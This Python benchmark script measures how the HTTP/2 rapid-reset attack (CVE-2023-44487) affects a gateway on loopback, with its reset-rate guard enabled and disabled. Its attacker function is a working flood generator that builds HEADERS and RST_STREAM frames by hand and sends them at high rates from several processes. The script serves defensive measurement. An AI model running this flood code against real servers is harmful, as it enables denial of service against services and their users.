#!/usr/bin/env python3
"""
Benchmark: what the HTTP/2 rapid-reset attack (CVE-2023-44487) costs crmgate,
with the frame guard's limit (limits.http2-resets-per-second, default 100) and
without it (0, which is h2o 2.2.5's own behaviour).

For each setting it starts the CRM simulator and a gateway (2 worker threads)
on loopback, then for SECONDS runs ATTACKERS processes that each open and
immediately reset up to 20,000 GET streams a second (reconnecting when the gateway closes
them), while one well-behaved HTTP/1.1 client posts Oracle's example
interaction back to back. It reports the gateway's CPU use, how many reset
streams reached the CRM, and the victim's throughput and latency, next to a
run with no attack.

    python3 tests/bench/rapid_reset.py [SECONDS] [ATTACKERS]

Needs a built gateway (build/crmgate, or CRMGATE_BIN). Not run by ctest:
numbers depend on the machine; they are reported in the README.
"""
import os
import multiprocessing
import socket
import struct
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "e2e"))
import harness as h  # noqa: E402

RATE = 20000  # streams opened and reset per second by each attacker
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream_id) + payload


def literal(index, value):
    value = value.encode()
    return bytes([index, len(value)]) + value


def attack_batch(authority, first_sid, count):
    out = []
    for i in range(count):
        sid = first_sid + 2 * i
        block = b"\x82\x86" + literal(4, h.INTERACTIONS) + literal(1, authority)
        out.append(frame(1, 0x5, sid, block) + frame(3, 0, sid, struct.pack(">I", 8)))
    return b"".join(out)


def attacker(port, stop, streams, closes):
    """One attacking process (outside the GIL of the client being measured), at a fixed rate of RATE streams
    a second and at the lowest CPU priority, so that both gateway settings face the same attack and the attacker,
    which would be another machine, does not take the CPU from the gateway and the client on this one."""
    os.nice(19)
    authority = "127.0.0.1:%d" % port
    start, sent = time.monotonic(), 0
    while not stop.is_set():
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2)
            s.setblocking(True)
            s.sendall(PREFACE + frame(4, 0, 0))
            sid = 1
            while not stop.is_set() and sid < 2**31 - 400:
                s.sendall(attack_batch(authority, sid, 100))
                sid += 200
                with streams.get_lock():
                    streams.value += 100
                sent += 100
                ahead = sent / RATE - (time.monotonic() - start)
                if ahead > 0:
                    time.sleep(ahead)
                s.setblocking(False)
                try:
                    while s.recv(1 << 20):  # drain what the gateway sends; b"" means it closed
                        pass
                    raise ConnectionResetError
                except BlockingIOError:
                    pass
                s.setblocking(True)
        except OSError:
            with closes.get_lock():
                closes.value += 1
        finally:
            try:
                s.close()
            except Exception:
                pass


def cpu_seconds(pid):
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def run(label, config, seconds, attackers, attack):
    suite = h.Suite("bench_rapid_reset")
    with suite.stack(config=config, args=["--audit", "off"]) as (sim, gw):
        mark = sim.mark()
        stop = multiprocessing.Event()
        streams, closes = multiprocessing.Value("q", 0), multiprocessing.Value("q", 0)
        threads = [multiprocessing.Process(target=attacker, args=(gw.port, stop, streams, closes))
                   for _ in range(attackers if attack else 0)]
        cpu0, t0 = cpu_seconds(gw.proc.pid), time.monotonic()
        for t in threads:
            t.start()
        client = h.Http1(gw.port)
        latencies, statuses = [], {}
        while time.monotonic() - t0 < seconds:
            q = time.monotonic()
            status = client.request("POST", h.INTERACTIONS, h.EXAMPLE, {"Content-Type": "application/json"})[0]
            latencies.append(time.monotonic() - q)
            statuses[status] = statuses.get(status, 0) + 1
        elapsed = time.monotonic() - t0
        cpu = cpu_seconds(gw.proc.pid) - cpu0
        stop.set()
        for t in threads:
            t.join(10)
            if t.is_alive():
                t.kill()
        client.close()
        time.sleep(1)  # let streams the gateway started finish upstream
        reached = sim.count() - mark - statuses.get(201, 0)
    latencies.sort()
    pct = lambda p: latencies[min(len(latencies) - 1, int(p * len(latencies)))] * 1000  # noqa: E731
    print("%-32s gateway CPU %5.0f %%  reset streams sent %8d, reached the CRM %7d, connections closed %5d  |  "
          "victim %6.0f req/s, p50 %6.2f ms, p99 %7.2f ms, statuses %s"
          % (label, 100 * cpu / elapsed, streams.value, reached, closes.value,
             len(latencies) / elapsed, pct(0.50), pct(0.99), statuses), flush=True)


def main():
    seconds = float(sys.argv[1]) if len(sys.argv) > 1 else 10
    attackers = int(sys.argv[2]) if len(sys.argv) > 2 else 4
    print("rapid reset, %g s per run, %d attackers at up to %d streams/s each, gateway with 2 threads"
          % (seconds, attackers, RATE))
    run("no attack", None, seconds, attackers, attack=False)
    run("attack, guard on (100/s, default)", None, seconds, attackers, attack=True)
    run("attack, guard off (h2o 2.2.5 alone)", "limits: {http2-resets-per-second: 0}\n", seconds, attackers, attack=True)


if __name__ == "__main__":
    main()
